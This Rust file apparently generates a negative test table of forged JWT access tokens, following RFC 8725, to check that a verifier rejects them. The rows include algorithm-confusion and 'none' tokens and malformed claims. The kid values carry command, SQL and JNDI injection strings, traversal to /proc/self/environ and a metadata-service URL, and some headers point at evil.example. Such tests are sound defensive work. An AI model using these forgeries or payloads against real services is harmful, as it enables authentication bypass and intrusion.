//! Forged access tokens, each with a description, by the list of RFC 8725.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};

use crate::faults::token_forge::{Forge, signed, unsigned, with};

/// The alphabet of Base64url.
pub const BASE64URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// RFC 8725 §2.1, §3.1, §3.2: a token does not choose the algorithm of its verification.
pub fn algorithms(forge: &Forge, jwks: &Value) -> Vec<(String, String)> {
    let public = URL_SAFE_NO_PAD.decode(jwks["keys"][0]["x"].as_str().unwrap()).unwrap();
    let der = [
        &[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00][..],
        &public,
    ]
    .concat();
    let body = base64::engine::general_purpose::STANDARD.encode(&der);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n");
    let mut rows = Vec::new();
    let hmacs = [
        ("HS256", Algorithm::HS256),
        ("HS384", Algorithm::HS384),
        ("HS512", Algorithm::HS512),
    ];
    let jwk = jwks["keys"][0].to_string();
    for (name, algorithm) in hmacs {
        for (form, secret) in [
            ("raw", public.as_slice()),
            ("DER", &der),
            ("PEM", pem.as_bytes()),
            ("PEM without its last line break", pem.trim_end().as_bytes()),
            ("JWK", jwk.as_bytes()),
            ("kid", forge.key.kid().as_bytes()),
        ] {
            let header = with(&forge.header, json!({"alg": name}));
            let token = signed(&header, &forge.claims, &EncodingKey::from_secret(secret), algorithm);
            rows.push((format!("{name} with our public key ({form})"), token));
            // The header says EdDSA, and the signature is an HMAC.
            let token = signed(
                &forge.header,
                &forge.claims,
                &EncodingKey::from_secret(secret),
                algorithm,
            );
            rows.push((format!("EdDSA over {name} with our public key ({form})"), token));
        }
    }
    for name in ["none", "None", "nOnE", "NONE", "", " none", "none\u{0}"] {
        let header = with(&forge.header, json!({"alg": name}));
        for kid in [json!(forge.key.kid()), Value::Null] {
            let message = unsigned(&with(&header, json!({"kid": kid})), &forge.claims);
            rows.push((format!("alg {name:?}, no signature"), format!("{message}.")));
            rows.push((format!("alg {name:?}, our signature"), forge.sign(&message)));
        }
    }
    for name in [
        "eddsa", "EDDSA", "Ed25519", "Ed448", "ES256", "ES384", "RS256", "PS256", "HS256", "ECDH-ES", "dir",
    ] {
        rows.push((
            format!("alg {name}, signed with EdDSA"),
            forge.with_header(json!({"alg": name})),
        ));
    }
    for other in [json!(["EdDSA"]), json!({}), json!(0), json!(true)] {
        rows.push((format!("alg {other}"), forge.with_header(json!({"alg": other}))));
    }
    rows
}

/// RFC 8725 §3.5, §3.10: a `kid` selects one of our keys only. Other header fields are not fetched and not trusted.
pub fn headers(forge: &Forge) -> Vec<(String, String)> {
    let mut rows = Vec::new();
    let long = "k".repeat(2000);
    let ours = forge.key.kid();
    for kid in [
        "",
        " ",
        "KEYS",
        "JWKS",
        "KEYS#JWKS",
        "USER#*",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///dev/null",
        "http://169.254.169.254/latest/meta-data",
        "' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "'; DROP TABLE keys; --",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
        "`id`",
        "|id",
        "{\"$ne\":null}",
        "*",
        "%00",
        "\u{0}",
        "\r\nx: y",
        "schlüssel",
        &long,
        &format!("{ours}\u{0}"),
        &format!(" {ours}"),
        &format!("{ours}/../{ours}"),
        &ours.to_lowercase(),
    ] {
        rows.push((format!("kid {kid:.40?}"), forge.with_header(json!({"kid": kid}))));
        // An HMAC with the empty key, which is the content of /dev/null.
        let header = with(&forge.header, json!({"kid": kid, "alg": "HS256"}));
        let token = signed(&header, &forge.claims, &EncodingKey::from_secret(b""), Algorithm::HS256);
        rows.push((format!("HS256 with an empty key, kid {kid:.40?}"), token));
    }
    for kid in [json!([ours]), json!({"kid": ours}), json!(0), json!(true)] {
        rows.push((format!("kid {kid}"), forge.with_header(json!({"kid": kid}))));
    }
    let jwk = forge.foreign_jwk();
    let foreign_kid = jwk["kid"].clone();
    for (name, value) in [
        ("jwk", jwk.clone()),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("http://127.0.0.1:9/.well-known/jwks.json")),
        ("x5u", json!("https://evil.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("dGh1bWI")),
        ("x5t#S256", json!("dGh1bWI")),
    ] {
        rows.push((
            format!("foreign signature, {name} {value:.40}, our kid"),
            forge.with_foreign_signature(json!({name: value})),
        ));
        let with_kid = forge.with_foreign_signature(json!({name: value, "kid": foreign_kid}));
        rows.push((format!("foreign signature, {name}, foreign kid"), with_kid));
        let without = forge.with_foreign_signature(json!({name: value, "kid": null}));
        rows.push((format!("foreign signature, {name}, no kid"), without));
        // Our own tokens never have such a header.
        rows.push((
            format!("our signature, {name}"),
            forge.with_header(json!({name: value})),
        ));
    }
    for (name, value) in [
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("crit", json!(["unknown"])),
        ("crit", json!("exp")),
        ("typ", json!("JWT")),
        ("typ", json!("at+jwt ")),
        ("typ", json!("rt+jwt")),
        ("typ", json!("id+jwt")),
        ("typ", json!("secevent+jwt")),
        ("typ", json!("")),
        ("typ", json!(["at+jwt"])),
    ] {
        rows.push((format!("{name} {value}"), forge.with_header(json!({name: value}))));
    }
    let b64 = forge.with_header(json!({"b64": false, "crit": ["b64"]}));
    rows.push(("an unencoded payload (RFC 7797)".into(), b64));
    let header = forge.header.to_string();
    for (name, member) in [
        ("alg", r#""alg":"none""#.to_owned()),
        ("kid", format!(r#""kid":{foreign_kid}"#)),
        ("typ", r#""typ":"JWT""#.to_owned()),
    ] {
        let header = format!("{{{member},{}", &header[1..]);
        rows.push((
            format!("{name} twice"),
            forge.with_bytes(header.as_bytes(), forge.claims.to_string().as_bytes()),
        ));
    }
    rows
}

/// RFC 8725 §3.8–3.12 and CVE-2026-25537: claims of the wrong type are refused.
#[expect(clippy::too_many_lines, reason = "a table with one row per token")]
pub fn claims(forge: &Forge) -> Vec<(String, String)> {
    let now = forge.now;
    let mut rows = Vec::new();
    let changes = [
        ("exp", json!(f64::from(i32::MAX) + 0.5)),
        ("exp", json!(4e9)),
        ("exp", json!(u64::MAX)),
        ("exp", json!(-1)),
        ("exp", json!(i64::MIN)),
        ("exp", json!(true)),
        ("exp", json!([now + 900])),
        ("exp", json!({"at": now + 900})),
        ("exp", json!((now + 900).to_string())),
        ("exp", json!("")),
        ("exp", json!("never")),
        ("nbf", Value::Null),
        ("nbf", json!(-1)),
        ("nbf", json!(i64::MIN)),
        ("nbf", json!(0.5)),
        ("nbf", json!(i64::MAX)),
        ("nbf", json!(u64::MAX)),
        ("nbf", json!(1e300)),
        ("nbf", json!(now.to_string())),
        ("nbf", json!(false)),
        ("nbf", json!([0])),
        ("iat", Value::Null),
        ("iat", json!(i64::MAX)),
        ("iat", json!("0")),
        ("iat", json!(1.5)),
        ("iss", json!([forge.claims["iss"]])),
        ("iss", json!(format!("{}/", forge.claims["iss"].as_str().unwrap()))),
        ("iss", json!(forge.claims["iss"].as_str().unwrap().to_uppercase())),
        ("iss", json!("")),
        ("iss", json!(0)),
        ("aud", json!([forge.claims["aud"]])),
        ("aud", json!([forge.claims["aud"], "https://evil.example"])),
        ("aud", json!([])),
        ("aud", json!(format!("{}/admin", forge.claims["aud"].as_str().unwrap()))),
        ("aud", json!("")),
        ("sub", json!("")),
        ("sub", json!([forge.claims["sub"]])),
        ("sub", json!("*")),
        ("sub", json!("../USER")),
        ("jti", Value::Null),
        ("jti", json!(1)),
        ("sid", Value::Null),
        ("sid", json!("none")),
        ("wid", json!("none")),
        ("wid", json!([])),
        ("uep", Value::Null),
        ("uep", json!(-1)),
        ("uep", json!(0.0)),
        ("uep", json!("0")),
        ("wep", Value::Null),
        ("wep", json!(-1)),
        ("wep", json!("0")),
    ];
    for (name, value) in changes {
        rows.push((format!("{name} {value}"), forge.with_claims(json!({name: value}))));
    }
    for member in [
        r#""exp":1"#,
        r#""exp":1e400"#,
        r#""exp":99999999999999999999999"#,
        r#""exp":NaN"#,
        r#""exp":Infinity"#,
        r#""nbf":0"#,
        r#""sub":"00000000-0000-7000-8000-000000000000""#,
        r#""iss":"https://evil.example""#,
        r#""aud":"another""#,
        r#""uep":1"#,
        r#""wid":null"#,
        r#""\u0073ub":"00000000-0000-7000-8000-000000000000""#,
    ] {
        rows.push((format!("additional claim {member}"), forge.with_duplicate_claim(member)));
    }
    let header = forge.header.to_string();
    let whole = forge.claims.to_string();
    let mut latin = with(&forge.claims, json!({"jti": "?"})).to_string().into_bytes();
    for byte in &mut latin {
        if *byte == b'?' {
            *byte = 0xff;
        }
    }
    let bodies: [(&str, &[u8]); 12] = [
        ("empty", b""),
        ("null", b"null"),
        ("a list", &[b"[", whole.as_bytes(), b"]"].concat()),
        ("a text", &serde_json::to_vec(&whole).unwrap()),
        ("a number", b"1"),
        ("no claims", b"{}"),
        ("truncated", &whole.as_bytes()[..whole.len() / 2]),
        ("garbage after the object", &[whole.as_bytes(), b"x"].concat()),
        ("a second object", &[whole.as_bytes(), b"{}"].concat()),
        ("NUL after the object", &[whole.as_bytes(), b"\0"].concat()),
        ("a byte order mark", &[b"\xef\xbb\xbf", whole.as_bytes()].concat()),
        ("invalid UTF-8", &latin),
    ];
    for (name, body) in bodies {
        rows.push((format!("claims: {name}"), forge.with_bytes(header.as_bytes(), body)));
    }
    rows
}

/// Other encodings of a genuine token, and malformed tokens.
pub fn encodings(forge: &Forge, genuine: &str) -> Vec<(String, String)> {
    let parts: Vec<&str> = genuine.split('.').collect();
    let [header, claims, signature] = parts[..] else {
        panic!("{genuine}")
    };
    let (bytes, mut rows) = (|part: &str| URL_SAFE_NO_PAD.decode(part).unwrap(), Vec::new());
    // A signature with a character that the two alphabets write differently.
    let (message, plain) = (0..1000)
        .map(|number| forge.with_claims(json!({"number": number})))
        .map(|token| {
            token
                .rsplit_once('.')
                .map(|(message, sign)| (message.to_owned(), sign.to_owned()))
                .unwrap()
        })
        .find(|(_, signature)| signature.contains(['-', '_']))
        .unwrap();
    let standard = STANDARD_NO_PAD.encode(bytes(&plain));
    rows.push(("the standard alphabet", format!("{message}.{standard}")));
    rows.push((
        "a padded signature",
        format!("{header}.{claims}.{}", URL_SAFE.encode(bytes(signature))),
    ));
    // The signature covers the padded text, so that it is valid.
    let with_padding = (0..1000).map(|number| with(&forge.claims, json!({"pad": "x".repeat(number)})).to_string());
    let with_padding = with_padding.into_iter().find(|text| text.len() % 3 != 0).unwrap();
    let padded = URL_SAFE.encode(&with_padding);
    assert!(padded.ends_with('='));
    rows.push(("padded claims", forge.sign(&format!("{header}.{padded}"))));
    rows.push((
        "percent-encoded padding",
        forge.sign(&format!("{header}.{}", padded.replace('=', "%3D"))),
    ));
    let last = BASE64URL
        .iter()
        .position(|c| Some(c) == signature.as_bytes().last())
        .unwrap();
    let mut loose = signature.to_owned();
    loose.pop();
    loose.push(char::from(BASE64URL[last | 1]));
    assert_ne!(loose, signature);
    rows.push(("unused bits of the signature set", format!("{header}.{claims}.{loose}")));
    let longer = URL_SAFE_NO_PAD.encode([bytes(signature), vec![0]].concat());
    rows.push(("a signature with one more byte", format!("{header}.{claims}.{longer}")));
    let shorter = URL_SAFE_NO_PAD.encode(&bytes(signature)[..63]);
    rows.push(("a signature with one byte less", format!("{header}.{claims}.{shorter}")));
    rows.push((
        "a signature of zeros",
        format!("{header}.{claims}.{}", URL_SAFE_NO_PAD.encode([0; 64])),
    ));
    rows.push(("a dot at the end", format!("{genuine}.")));
    rows.push(("a dot at the beginning", format!(".{genuine}")));
    rows.push(("a space inside", format!("{header}. {claims}.{signature}")));
    rows.push(("a comma at the end", format!("{genuine},")));
    rows.push(("quotes around", format!("\"{genuine}\"")));
    rows.push(("the token twice", format!("{genuine}{genuine}")));
    rows.push(("header and claims exchanged", format!("{claims}.{header}.{signature}")));
    rows.push(("five parts, like a JWE", format!("{genuine}.{claims}.{signature}")));
    let json_form = json!({"protected": header, "payload": claims, "signature": signature});
    rows.push(("the JSON form", json_form.to_string()));
    let nested = forge.sign(&format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(with(&forge.header, json!({"cty": "JWT"})).to_string()),
        URL_SAFE_NO_PAD.encode(genuine)
    ));
    rows.push(("a nested token", nested));
    let long = (2400..2900).map(|number| forge.with_claims(json!({"x": "x".repeat(number)})));
    let long = long.into_iter().find(|token| token.len() > 4096).unwrap();
    rows.push(("just over 4,096 bytes", long));
    rows.push(("64 KB", format!("{genuine}{}", "A".repeat(64 * 1024))));
    rows.push(("10,000 dots", ".".repeat(10_000)));
    rows.into_iter().map(|(name, token)| (name.to_owned(), token)).collect()
}
